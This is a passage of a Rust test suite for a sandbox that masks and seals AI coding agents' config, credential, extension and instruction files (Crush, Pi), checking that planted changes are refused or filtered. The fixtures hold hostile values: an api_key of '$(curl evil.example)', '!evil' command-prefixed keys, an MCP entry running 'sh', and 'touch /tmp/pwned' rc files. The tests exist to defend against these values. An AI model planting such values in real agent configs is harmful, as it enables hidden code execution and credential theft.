        r#"{"models": {"large": {"model": "m", "provider": "p"}}, "providers": {"p": {"api_key": "$KEY"}, "v": {"api_key": "$(pass llm)"}}, "mcp": {"evil": {"command": "sh"}}}"#,
    );
    write(&config.join("crushrc"), "touch /tmp/pwned");
    write(&config.join("CRUSH.md"), "CRUSH USER MD");
    write(&config.join("skills/s/SKILL.md"), "CRUSH USER SKILL");
    write(&w.home.join(".config/AGENTS.md"), "CRUSH GLOBAL AGENTS");
    write(&w.home.join(".crush/commands/c.md"), "CRUSH USER COMMAND");
    let data = w.home.join(".local/share/crush/crush.json");
    write(&data, r#"{"models": {"large": {"model": "m"}}}"#);
    let unpinned = [
        ("crushrc", "UNPINNED CRUSHRC"),
        ("pkg/.crushrc", "UNPINNED PKG CRUSHRC"),
        (".crush/crush.json", "UNPINNED WORKSPACE CONFIG"),
        (".crush/commands/c.md", "UNPINNED CRUSH COMMAND"),
    ];
    let shown = unpinned_shown(&w, &unpinned, "-s");
    let script = format!(
        r#"
        c=~/.config/crush
        cat $c/crush.json; echo
        echo "[$(cat $c/crushrc $c/CRUSH.md ~/.config/AGENTS.md)$(ls -A $c/skills)$(ls -A ~/.crush/commands)]"
        echo "$CRUSH_CLIENT_SERVER"
        echo '{{"models": {{"large": {{"model": "m2"}}}}, "providers": {{"x": {{"api_key": "$(curl evil.example)"}}}}}}' > ~/.local/share/crush/crush.json
        {}
        echo end
    "#,
        shown
    );
    let (code, out, err) = w.run_sh(&script, &[("CRUSH_CLIENT_SERVER", Path::new("1"))]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        r#"{"models":{"large":{"model":"m","provider":"p"}},"providers":{"p":{"api_key":"$KEY"}}}[]0end"#,
        "{err}"
    );
    // The data configuration was merged back without the command.
    let written = std::fs::read_to_string(&data).unwrap();
    assert!(
        written.contains("m2") && !written.contains("evil"),
        "{written}"
    );
    let plant = r#"
        try crushrc 'echo "touch /tmp/pwned" > crushrc'
        try pkg-crushrc 'mkdir -p pkg && echo "touch /tmp/pwned" > pkg/.crushrc'
        try workspace-command 'mkdir -p .crush/commands && echo evil > .crush/commands/e.md'
        try home-crushrc 'echo "touch /tmp/pwned" >> ~/.config/crush/crushrc'
        try home-command 'echo evil > ~/.crush/commands/e.md'
        try home-config-new 'echo evil > ~/.config/crush/init'
    "#;
    assert_plants_refused(&w, plant, 6);
    assert!(!w.home.join(".crush/commands/e.md").exists());
    // A directory the caller names instead is masked as the home's is, and
    // a skills directory named so is empty.
    let elsewhere = w.home.join("elsewhere");
    write(
        &elsewhere.join("crush.json"),
        r#"{"mcp": {"evil": {"command": "sh"}}}"#,
    );
    write(&elsewhere.join("crushrc"), "touch /tmp/pwned");
    write(&w.home.join("AGENTS.md"), "BESIDE RELOCATED CONFIG");
    let skills = w.home.join("skills-elsewhere");
    write(&skills.join("s/SKILL.md"), "RELOCATED SKILL");
    let (code, out, err) = w.run_sh(
        r#"echo "[$(cat "$CRUSH_GLOBAL_CONFIG/crush.json" "$CRUSH_GLOBAL_CONFIG/crushrc" "$CRUSH_GLOBAL_CONFIG/../AGENTS.md")$(ls -A "$CRUSH_SKILLS_DIR")]""#,
        &[("CRUSH_GLOBAL_CONFIG", &elsewhere), ("CRUSH_SKILLS_DIR", &skills)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[{}]\n", "{err}");
    assert_served_once_pinned(&w, &unpinned);
}

/// Pi's places (checked offline with Pi 0.73.1): its project directory
/// `.pi` (extensions it runs, settings naming packages, a system prompt)
/// hidden until pinned and read-only after, with the lock directory it takes
/// beside its settings in the run's scratch layer; `AGENTS.MD`; its agent
/// directory (`~/.pi/agent`, or `PI_CODING_AGENT_DIR`) masked, its settings,
/// models and credentials filtered (a `!` command never left behind by a
/// run), its sessions written through; and jiti's cache turned off for the
/// run and read-only in it.
#[test]
fn pi_locations_are_sealed() {
    if !fuse_available() {
        return;
    }
    let w = World::new();
    let agent = w.home.join(".pi/agent");
    write(&agent.join("AGENTS.md"), "PI USER AGENTS");
    write(&agent.join("extensions/e.ts"), "PI USER EXTENSION");
    write(&agent.join("bin/rg"), "#!/bin/sh\necho PI USER BIN");
    write(
        &agent.join("settings.json"),
        r#"{"defaultModel": "m", "packages": ["npm:evil"]}"#,
    );
    write(
        &agent.join("models.json"),
        r#"{"providers": {"p": {"baseUrl": "http://127.0.0.1:1", "apiKey": "!evil"}}}"#,
    );
    write(
        &agent.join("auth.json"),
        r#"{"a": {"type": "api_key", "key": "k"}, "b": {"type": "api_key", "key": "!evil"}}"#,
    );
    let unpinned = [
        (".pi/extensions/x/index.ts", "UNPINNED PI EXTENSION"),
        (".pi/settings.json", "UNPINNED PI SETTINGS"),
        (".pi/SYSTEM.md", "UNPINNED PI SYSTEM"),
        ("pkg/AGENTS.MD", "UNPINNED AGENTS MD"),
    ];
    let shown = unpinned_shown(&w, &unpinned, "-s");
    let script = format!(
        r#"
        a=~/.pi/agent
        echo "[$(cat $a/AGENTS.md)$(ls -A $a/extensions)$(ls -A $a/bin)]"
        cat $a/settings.json $a/models.json $a/auth.json; echo
        echo "$JITI_FS_CACHE"
        mkdir $a/settings.json.lock && rmdir $a/settings.json.lock || echo "no home lock"
        mkdir .pi/settings.json.lock && rmdir .pi/settings.json.lock || echo "no project lock"
        mkdir -p $a/sessions && echo state > $a/sessions/s.jsonl
        echo '{{"defaultModel": "m2", "extensions": ["/evil.ts"]}}' > $a/settings.json
        echo '{{"a": {{"type": "api_key", "key": "k2"}}, "c": {{"type": "api_key", "key": "!planted"}}}}' > $a/auth.json
        # Empty placeholders stand for the names Pi loads in `.pi`.
        {}
        echo end
    "#,
        shown
    );
    let (code, out, err) = w.run_sh(&script, &[("JITI_FS_CACHE", Path::new("true"))]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        out.replace(['\n', ' '], ""),
        r#"[]{"defaultModel":"m"}{"providers":{}}{"a":{"type":"api_key","key":"k"}}falseend"#,
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(agent.join("sessions/s.jsonl")).unwrap(),
        "state\n"
    );
    // The run's settings were merged back without what they load.
    let settings = std::fs::read_to_string(agent.join("settings.json")).unwrap();
    assert!(
        settings.contains("m2") && settings.contains("npm:evil"),
        "{settings}"
    );
    assert!(!settings.contains("evil.ts"), "{settings}");
    // The run's credentials too (it replaced the file: `b`, which it was
    // not shown, stays), without the command it wrote.
    let auth = std::fs::read_to_string(agent.join("auth.json")).unwrap();
    assert!(auth.contains("k2") && auth.contains("\"b\""), "{auth}");
    assert!(
        !auth.contains("planted") && !auth.contains("\"c\""),
        "{auth}"
    );
    let plant = r#"
        try pi-extension 'mkdir -p .pi/extensions && echo evil > .pi/extensions/evil.ts'
        try pi-npm 'mkdir -p .pi/npm/x && echo evil > .pi/npm/x/index.js'
        try agents-md 'echo EVIL > AGENTS.MD'
        try home-extension 'echo evil > ~/.pi/agent/extensions/evil.ts'
        try home-bin 'echo evil > ~/.pi/agent/bin/fd'
        try jiti-cache 'mkdir -p /tmp/jiti && echo evil > /tmp/jiti/sealtest-e.mjs'
    "#;
    assert_plants_refused(&w, plant, 6);
    assert!(!Path::new("/tmp/jiti/sealtest-e.mjs").exists());
    assert!(!agent.join("extensions/evil.ts").exists());
    assert!(!agent.join("bin/fd").exists());
    // A directory the caller names instead is masked as the home's is.
    let elsewhere = w.home.join("elsewhere");
    write(&elsewhere.join("extensions/e.ts"), "RELOCATED EXTENSION");
    write(&elsewhere.join("SYSTEM.md"), "RELOCATED SYSTEM");
    let (code, out, err) = w.run_sh(
        r#"echo "[$(ls -A "$PI_CODING_AGENT_DIR/extensions")$(cat "$PI_CODING_AGENT_DIR/SYSTEM.md")]"
        echo '{"a": {"type": "api_key", "key": "k"}, "c": {"type": "api_key", "key": "!planted"}}' > "$PI_CODING_AGENT_DIR/auth.json""#,
        &[("PI_CODING_AGENT_DIR", &elsewhere)],
    );
    assert_eq!(code, 0, "{err}");
    assert_eq!(out, "[]\n", "{err}");
    // Credentials it created are written back without the command.
    let auth = std::fs::read_to_string(elsewhere.join("auth.json")).unwrap();
    assert!(
        auth.contains("\"a\"") && !auth.contains("planted"),
        "{auth}"
    );
    assert_served_once_pinned(&w, &unpinned);
}
